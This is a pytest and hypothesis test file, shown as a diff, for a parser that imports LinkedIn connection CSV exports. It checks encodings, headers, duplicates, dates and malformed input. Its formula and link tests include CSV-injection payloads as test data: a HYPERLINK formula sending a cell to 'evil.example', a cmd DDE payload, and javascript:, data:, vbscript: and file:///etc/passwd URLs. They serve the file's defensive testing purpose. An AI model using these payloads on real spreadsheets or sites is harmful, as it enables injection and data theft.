@@ -1,0 +1,534 @@
+"""Connections.csv as people really send it: each awkwardness by name, and whatever hypothesis thinks of."""
+
+from datetime import date
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from services.profiles.imports.linkedin import parse
+from services.profiles.imports.report import MAX_BYTES, MAX_WARNINGS, ImportProblem, Report
+
+HEADER = "First Name,Last Name,URL,Email Address,Company,Position,Connected On"
+ANA = "Ana,Silva,https://www.linkedin.com/in/ana-silva,,Initech,Engineer,01 Jan 2024"
+BO = "Bo,Li,https://www.linkedin.com/in/bo-li,bo@example.org,Globex,Designer,15 Mar 2021"
+NOTES = (
+    "Notes:\n"
+    '"When exporting your data, you may notice that some of the emails, companies and ""other"" things are missing."\n'
+    "\n"
+)
+
+
+def table(*rows: str, header: str = HEADER, end: str = "\n") -> str:
+    return end.join([header, *rows, ""])
+
+
+def read(text: str, encoding: str = "utf-8") -> Report:
+    return parse(text.encode(encoding))
+
+
+def names(report: Report) -> list[str]:
+    return [record.name for record in report.records]
+
+
+def reasons(report: Report) -> dict[int, str]:
+    return {row.line: row.reason for row in report.rejected}
+
+
+def test_a_plain_file():
+    report = read(table(ANA, BO))
+    assert report.with_records() == {
+        "format": "linkedin",
+        "read": 2,
+        "accepted": 2,
+        "rejected": [],
+        "warnings": [],
+        "records": [
+            {
+                "first_name": "Ana",
+                "last_name": "Silva",
+                "name": "Ana Silva",
+                "url": "https://www.linkedin.com/in/ana-silva",
+                "email": None,
+                "company": "Initech",
+                "position": "Engineer",
+                "connected_on": "2024-01-01",
+                "line": 2,
+            },
+            {
+                "first_name": "Bo",
+                "last_name": "Li",
+                "name": "Bo Li",
+                "url": "https://www.linkedin.com/in/bo-li",
+                "email": "bo@example.org",
+                "company": "Globex",
+                "position": "Designer",
+                "connected_on": "2021-03-15",
+                "line": 3,
+            },
+        ],
+    }
+
+
+# Encodings
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"])
+def test_encodings(encoding):
+    report = read(table("Zoë,Nuñez,,,Café Łódź,張偉,", ANA), encoding)
+    assert names(report) == ["Zoë Nuñez", "Ana Silva"]
+    assert report.records[0].position == "張偉"
+
+
+@pytest.mark.parametrize(("mark", "encoding"), [(b"\xff\xfe", "utf-16-le"), (b"\xfe\xff", "utf-16-be")])
+def test_utf16_of_either_order_with_its_mark(mark, encoding):
+    assert names(parse(mark + table(ANA, BO).encode(encoding))) == ["Ana Silva", "Bo Li"]
+
+
+def test_utf16_with_tabs_as_excel_saves_unicode_text():
+    report = read(table(ANA, BO, end="\r\n").replace(",", "\t"), "utf-16")
+    assert names(report) == ["Ana Silva", "Bo Li"]
+
+
+def test_windows_1252_is_read_with_a_warning():
+    report = read(table("José,Müller,,,Société “X”,,", ANA), "cp1252")
+    assert names(report) == ["José Müller", "Ana Silva"]
+    assert report.records[0].company == "Société “X”"
+    assert any("1252" in warning for warning in report.warnings)
+
+
+def test_one_line_in_another_encoding_does_not_garble_the_others():
+    data = table("Zoë,One,,,,,").encode() + "José,Two,,,,,\n".encode("cp1252") + "Jürgen,Three,,,,,\n".encode()
+    report = parse(data)
+    assert names(report) == ["Zoë One", "José Two", "Jürgen Three"]
+    assert any("line 3" in warning for warning in report.warnings)
+
+
+def test_names_are_composed():
+    assert names(read(table("Zoe\u0308,Ha\u0308nsel,,,,,"))) == ["Zoë Hänsel"]
+
+
+def test_zero_bytes_are_left_out():
+    report = read(table("A\x00na,Silva,,,Ini\x00tech,,", ANA.replace("Ana", "Eva")))
+    assert report.records[0].name == "Ana Silva"
+    assert report.records[0].company == "Initech"
+    assert any("zero bytes" in warning for warning in report.warnings)
+
+
+def test_invisible_characters_are_left_out_and_joiners_stay():
+    report = read(table("\u202eAna\u200b,Sil\ufeffva \U0001f469\u200d\U0001f52c,,,,,"))
+    assert names(report) == ["Ana Silva \U0001f469\u200d\U0001f52c"]
+
+
+# Lines and header
+
+
+@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
+def test_line_ends(end):
+    report = read(table(ANA, BO, "Short,Row", end=end))
+    assert names(report) == ["Ana Silva", "Bo Li"]
+    assert list(reasons(report)) == [4]
+
+
+@pytest.mark.parametrize("count", range(13))
+def test_notes_before_the_header(count):
+    notes = "".join(f'Note {number}, with commas, and "quotes\n' for number in range(count))
+    report = read(notes + table(ANA, "Short"))
+    assert names(report) == ["Ana Silva"]
+    assert report.records[0].line == count + 2
+    assert list(reasons(report)) == [count + 3]
+
+
+def test_the_notes_of_a_real_export():
+    report = read(NOTES + table(ANA))
+    assert names(report) == ["Ana Silva"]
+    assert report.records[0].line == 5
+
+
+def test_a_note_that_talks_about_columns_is_not_the_header():
+    report = read("About,First Name,Last Name\n" + table(ANA))
+    assert names(report) == ["Ana Silva"]
+
+
+def test_columns_in_any_order_and_case_with_others_between():
+    header = "connected on,COMPANY,Notes,e-mail address,last name,Tags,FIRST NAME,Position,url"
+    row = "01 Jan 2024,Initech,x,ana@example.org,Silva,y,Ana,Engineer,https://www.linkedin.com/in/ana"
+    (record,) = read(table(row, header=header)).records
+    assert (record.first_name, record.last_name, record.email) == ("Ana", "Silva", "ana@example.org")
+    assert (record.company, record.position, record.connected_on) == ("Initech", "Engineer", date(2024, 1, 1))
+
+
+def test_only_names_are_needed():
+    (record,) = read(table("Ana,Silva", header="First Name,Last Name")).records
+    assert record.name == "Ana Silva"
+    assert (record.url, record.email, record.company, record.position, record.connected_on) == (None,) * 5
+
+
+def test_one_column_for_the_whole_name():
+    (record,) = read(table("Ana Silva,Initech", header="Name,Company")).records
+    assert record.name == "Ana Silva"
+
+
+def test_semicolons():
+    assert names(read(table(ANA, BO).replace(",", ";"))) == ["Ana Silva", "Bo Li"]
+
+
+def test_quoted_columns_of_the_header():
+    header = ",".join(f'"{name}"' for name in HEADER.split(","))
+    assert names(read(table(ANA, header=header))) == ["Ana Silva"]
+
+
+# Rows
+
+
+def test_commas_quotes_and_newlines_inside_quotes():
+    row = 'Ana,Silva,,,"Initech, Inc.","Head of ""Big""\nThings",01 Jan 2024'
+    report = read(table(row, "Bad", BO))
+    assert report.records[0].company == "Initech, Inc."
+    assert report.records[0].position == 'Head of "Big" Things'
+    assert report.records[1].line == 5
+    assert list(reasons(report)) == [4]
+
+
+def test_a_quote_inside_a_cell_is_a_character():
+    assert read(table('Robert "Bob",Stone,,,5" Disks,,')).records[0].first_name == 'Robert "Bob"'
+
+
+@pytest.mark.parametrize("after", [(BO,), (BO, 'Cy,Oz,,,"Acme, Inc.",,'), (BO, 'Cy,Oz,,,"",,')])
+def test_a_quote_that_is_never_closed_spoils_only_its_own_row(after):
+    report = read(table(ANA, '"Eva,Stone,,,Acme,,', *after))
+    assert names(report)[:2] == ["Ana Silva", "Bo Li"]
+    assert len(report.records) == 1 + len(after)
+    assert reasons(report) == {3: "a quote is never closed"}
+
+
+def test_short_rows_are_reported_with_line_and_reason():
+    report = read(table(ANA, "Eva,Stone,https://www.linkedin.com/in/eva", BO))
+    assert names(report) == ["Ana Silva", "Bo Li"]
+    assert reasons(report) == {3: "too short: 3 of 7 columns"}
+    assert report.read == 3
+
+
+def test_long_rows_are_reported_unless_what_is_too_much_is_empty():
+    report = read(table(ANA + ",,", "Eva,Stone,,,Acme, Inc.,CEO,01 Jan 2024"))
+    assert names(report) == ["Ana Silva"]
+    assert reasons(report)[3].startswith("too long: 8 columns where the header has 7")
+
+
+def test_blank_lines_are_no_rows():
+    report = read(table("", ANA, "", "   ", BO, ""))
+    assert (report.read, report.accepted) == (2, 2)
+    assert [record.line for record in report.records] == [3, 6]
+
+
+@pytest.mark.parametrize("row", [",,,,,,", ",,https://www.linkedin.com/in/x,,,,24 Mar 2020", " ,-,,,,,", "!,?,,,,,"])
+def test_a_row_without_a_name_is_rejected(row):
+    assert reasons(read(table(ANA, row))) == {3: "no name"}
+
+
+@pytest.mark.parametrize("row", ["Ana,,,,,,", ",Silva,,,,,"])
+def test_one_name_is_enough(row):
+    assert read(table(row)).accepted == 1
+
+
+def test_the_header_once_more_is_no_contact():
+    assert reasons(read(table(ANA, HEADER, BO))) == {3: "the header once more"}
+
+
+def test_very_long_cells():
+    report = read(
+        table(f"{'x' * 5000},Silva,,,,,", f"Ana,Silva,,,{'y' * 400_000},{'z' * 301},", f'Bo,Li,,,"{"q" * 200_000}",,')
+    )
+    assert reasons(report) == {2: "the name is longer than 200 characters", 4: "a cell is too long"}
+    (ana,) = report.records
+    assert (len(ana.company), len(ana.position)) == (300, 300)
+    assert len(report.warnings) == 2
+
+
+def test_emoji_and_titles_in_names_stay():
+    assert names(read(table('Ana 🚀,"Silva, PhD, MBA",,,,,'))) == ["Ana 🚀 Silva, PhD, MBA"]
+
+
+def test_mostly_empty_addresses_and_one_that_is_none():
+    report = read(table(ANA, BO, "Cy,Oz,,not an address,,,", "Di,Ng,,DI@Example.ORG,,,"))
+    assert [record.email for record in report.records] == [None, "bo@example.org", None, "di@example.org"]
+    assert len(report.warnings) == 1
+
+
+# Formulas and links
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '"=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")"',
+        "=1+1",
+        " =1+1",
+        "\t=1+1",
+        "@SUM(A1:A9)",
+        "+SUM(A1)",
+        "-2+3+cmd|' /C calc'!A0",
+        "'=1+1",
+        "\uff1d1+1",
+        "+491234",
+    ],
+)
+def test_a_formula_is_never_stored(formula):
+    report = read(table(f"{formula},Silva,,,,,", f"Bo,Li,,{formula},{formula},{formula},"))
+    assert reasons(report) == {2: "a name is a formula"}
+    (bo,) = report.records
+    assert (bo.email, bo.company, bo.position) == (None, None, None)
+    assert len(report.warnings) == 3
+
+
+def test_a_sign_before_words_is_taken_off():
+    report = read(table("Ana,Silva,,,@Home Systems,- Head of Sales,", "Bo,+Li,,,-,--,"))
+    assert (report.records[0].company, report.records[0].position) == ("Home Systems", "Head of Sales")
+    assert (report.records[1].name, report.records[1].company, report.records[1].position) == ("Bo Li", None, None)
+    assert len(report.warnings) == 3
+
+
+def test_an_apostrophe_before_a_name_stays():
+    assert names(read(table("Jan,'t Hooft,,,,,"))) == ["Jan 't Hooft"]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "java\tscript:alert(1)",
+        '"data:text/html,<script>alert(1)</script>"',
+        "vbscript:x",
+        "file:///etc/passwd",
+        "https://user:pass@www.linkedin.com/in/x",
+        "https://www.linkedin.com@evil.example/in/x",
+        "//evil.example",
+        "https://",
+        "https://[bad/in/x",
+        "https://host:99999/",
+        "https://www.linkedin.com/in/<script>",
+    ],
+)
+def test_a_link_that_is_no_plain_web_address_is_left_out(url):
+    report = read(table(f"Ana,Silva,{url},,,,"))
+    assert report.records[0].url is None
+    assert len(report.warnings) == 1
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://www.linkedin.com/in/ana-silva",
+        "https://WWW.LinkedIn.com/in/ana-silva/",
+        "https://www.linkedin.com/in/ana-silva?trk=x&y=z#top",
+        "www.linkedin.com/in/ana-silva",
+        " https://www.linkedin.com:443/in/ana-silva ",
+    ],
+)
+def test_a_profile_link_is_stored_in_one_form(url):
+    assert read(table(f"Ana,Silva,{url},,,,")).records[0].url == "https://www.linkedin.com/in/ana-silva"
+
+
+# Duplicates
+
+
+@pytest.mark.parametrize(
+    ("first", "second"),
+    [
+        ("https://www.linkedin.com/in/jos%C3%A9-s", "https://www.linkedin.com/in/José-S/"),
+        ("https://www.linkedin.com/in/ana", "http://de.linkedin.com/in/ANA?x=1"),
+        ("https://www.linkedin.com/in/ana", "linkedin.com/in/ana"),
+        ("https://example.org/ana", "https://EXAMPLE.org/ana/"),
+    ],
+)
+def test_the_same_link_twice_is_one_contact(first, second):
+    report = read(table(f"Ana,Silva,{first},,,,", BO, f"Anna,Sylva,{second},,Other,,"))
+    assert names(report) == ["Ana Silva", "Bo Li"]
+    assert reasons(report) == {4: "duplicate of line 2"}
+
+
+def test_the_same_address_twice_is_one_contact():
+    report = read(table("Ana,Silva,,ana@example.org,,,", "A.,Silva,,ANA@example.org,,,"))
+    assert reasons(report) == {3: "duplicate of line 2"}
+
+
+def test_the_same_name_and_company_is_one_contact_where_nothing_better_is_known():
+    report = read(table("Ana,Silva,,,Initech,,", "ana,SILVA,,,initech,,", "Ana,Silva,,,Globex,,"))
+    assert report.accepted == 2
+    assert reasons(report) == {3: "duplicate of line 2"}
+
+
+def test_two_people_of_one_name_with_links_of_their_own_are_two():
+    assert read(table(ANA, ANA.replace("ana-silva", "ana-silva-2"))).accepted == 2
+
+
+# Dates
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "05 Jan 2024",
+        "5 January 2024",
+        '"Jan 5, 2024"',
+        '"January 5th, 2024"',
+        "2024-01-05",
+        "2024/01/05",
+        "2024-01-05T10:00:00Z",
+        "2024-01-05 10:11:12 UTC",
+        '"05 Jan 2024, 10:33 AM"',
+        "5-Jan-24",
+        "05.01.2024",
+        "1/5/24",
+        "01/05/2024",
+        '"Friday, January 5, 2024"',
+    ],
+)
+def test_dates(text):
+    assert read(table(f"Ana,Silva,,,,,{text}")).records[0].connected_on == date(2024, 1, 5)
+
+
+def test_a_month_is_its_first_day():
+    report = read(table("Ana,Silva,,,,,Mar 2020", "Bo,Li,,,,,2020-03"))
+    assert {record.connected_on for record in report.records} == {date(2020, 3, 1)}
+
+
+@pytest.mark.parametrize("text", ["31 Feb 2024", "soon", "13/13/2024", "00/00/0000", "=TODAY()"])
+def test_an_unreadable_date_is_left_out_with_a_warning(text):
+    report = read(table(f"Ana,Silva,,,,,{text}"))
+    assert report.records[0].connected_on is None
+    assert any("line 2" in warning for warning in report.warnings)
+
+
+@pytest.mark.parametrize(("other", "expected"), [("25/12/2023", date(2024, 4, 3)), ("12/25/2023", date(2024, 3, 4))])
+def test_the_other_dates_of_the_file_say_which_number_is_the_day(other, expected):
+    report = read(table("Ana,Silva,,,,,03/04/2024", f"Bo,Li,,,,,{other}"))
+    assert report.records[0].connected_on == expected
+    assert report.records[1].connected_on == date(2023, 12, 25)
+    assert report.warnings == ()
+
+
+def test_where_no_date_says_the_month_comes_first_and_a_warning_says_so():
+    report = read(table("Ana,Silva,,,,,03/04/2024", "Bo,Li,,,,,03.04.2024"))
+    assert [record.connected_on for record in report.records] == [date(2024, 3, 4), date(2024, 4, 3)]
+    assert any("month/day" in warning for warning in report.warnings)
+
+
+def test_dates_of_both_kinds_are_read_as_most_are_with_a_warning():
+    days = ("03/04/2024", "25/12/2023", "26/12/2023", "12/27/2023")
+    report = read(table(*(f"P{number},X,,,,,{day}" for number, day in enumerate(days))))
+    assert report.records[0].connected_on == date(2024, 4, 3)
+    assert any("both" in warning for warning in report.warnings)
+
+
+# Files that give nothing
+
+
+@pytest.mark.parametrize("data", [b"", b"\n\n  \r\n", b"\xef\xbb\xbf", b"\xff\xfe", b"\x00\x00\x00\x00"])
+def test_an_empty_file_is_a_problem(data):
+    with pytest.raises(ImportProblem, match="empty"):
+        parse(data)
+
+
+@pytest.mark.parametrize("text", ["just, some, words\nand, more\n", ANA, "\x89PNG\r\n\x1a\n", "{}"])
+def test_a_file_without_a_header_is_a_problem(text):
+    with pytest.raises(ImportProblem, match="no header"):
+        parse(text.encode())
+
+
+def test_a_header_alone_is_a_problem():
+    with pytest.raises(ImportProblem, match="no usable row: there is no row"):
+        read(NOTES + table())
+
+
+def test_only_bad_rows_are_a_problem_that_says_each_reason():
+    with pytest.raises(ImportProblem, match="every row") as caught:
+        read(table(",,,,,,", "Short", "=1+1,x,,,,,"))
+    assert reasons(caught.value.report) == {2: "no name", 3: "too short: 1 of 7 columns", 4: "a name is a formula"}
+    assert caught.value.report.read == 3
+
+
+def test_an_archive_is_a_problem_that_says_what_to_do():
+    with pytest.raises(ImportProblem, match="unpack"):
+        parse(b"PK\x03\x04rest")
+
+
+def test_a_file_that_is_too_large_is_a_problem():
+    with pytest.raises(ImportProblem, match="20 MiB"):
+        parse(b"x" * (MAX_BYTES + 1))
+
+
+def test_too_many_rows_are_a_problem(monkeypatch):
+    monkeypatch.setattr("services.profiles.imports.linkedin.MAX_ROWS", 1)
+    with pytest.raises(ImportProblem, match="more than 1 rows"):
+        read(table(ANA, BO))
+
+
+def test_thousands_of_warnings_are_counted_not_listed():
+    report = read(table(*(f"P{number},X,javascript:x,,,," for number in range(MAX_WARNINGS + 7))))
+    assert len(report.warnings) == MAX_WARNINGS + 1
+    assert report.warnings[-1] == "and 7 more warnings"
+
+
+def test_reasons_and_warnings_repeat_nothing_of_the_file():
+    report = read(table("=SECRET,x,,,,,", "SECRET,Row", "Ana,Silva,secret:x,SECRET,=SECRET(1),@SECRET,SECRET"))
+    assert "SECRET" not in str(report.summary()).upper().replace("'", "")
+
+
+def test_progress_is_told_to_the_end():
+    told: list[tuple[int, int]] = []
+    parse(table(ANA, BO).encode(), progress=lambda done, whole: told.append((done, whole)))
+    assert told[-1] == (2, 2)
+
+
+# Whatever comes
+
+CELL = st.text(st.characters(codec="utf-8"), max_size=12) | st.sampled_from(
+    [
+        "=1+1",
+        "@x",
+        '"',
+        '""',
+        '"a',
+        'b"',
+        "\r",
+        "\n",
+        "javascript:x",
+        "1/2/24",
+        "Ana",
+        "a@b.cd",
+        "\x00",
+        "https://x.y/z",
+    ]
+)
+ROWS = st.lists(st.lists(CELL, min_size=1, max_size=9).map(",".join), max_size=8)
+
+
+def holds(report: Report) -> None:
+    assert report.accepted + len(report.rejected) == report.read
+    assert len({record.line for record in report.records} | {row.line for row in report.rejected}) == report.read
+    for record in report.records:
+        texts = [record.name, record.first_name, record.last_name, record.company, record.position, record.email]
+        assert all(text[0] not in "=+-@\t\r" for text in texts if text)
+        assert record.url is None or record.url.startswith(("http://", "https://"))
+        assert any(char.isalnum() for char in record.name)
+
+
+@given(ROWS, st.sampled_from(["utf-8", "utf-16", "utf-8-sig"]), st.sampled_from(["\n", "\r\n", "\r"]))
+@example(['"'], "utf-8", "\n")
+def test_any_rows_are_accepted_or_rejected_and_nothing_is_lost(rows, encoding, end):
+    try:
+        report = parse(table(*rows, ANA, end=end).encode(encoding))
+    except ImportProblem as problem:
+        report = problem.report
+    holds(report)
+
+
+@given(st.binary(max_size=300))
+def test_any_bytes_give_a_report_or_a_problem(data):
+    for start in (b"", HEADER.encode() + b"\n", HEADER.encode("utf-16")):
+        try:
+            holds(parse(start + data))
+        except ImportProblem as problem:
+            holds(problem.report)
